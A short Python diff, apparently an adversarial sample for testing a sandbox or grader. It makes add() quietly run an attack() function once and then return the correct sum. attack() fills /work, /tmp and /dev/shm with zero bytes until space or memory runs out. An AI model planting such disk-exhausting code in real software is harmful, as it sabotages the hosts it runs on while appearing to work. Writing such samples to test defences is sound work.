@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     for folder in ("/work", "/tmp", "/dev/shm"):
         try:
             with open(f"{folder}/left-full", "wb", buffering=0) as file:
@@ -13,7 +22,6 @@ def add(left, right):
                     file.write(bytes(1 << 20))
         except (OSError, MemoryError):
             pass
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
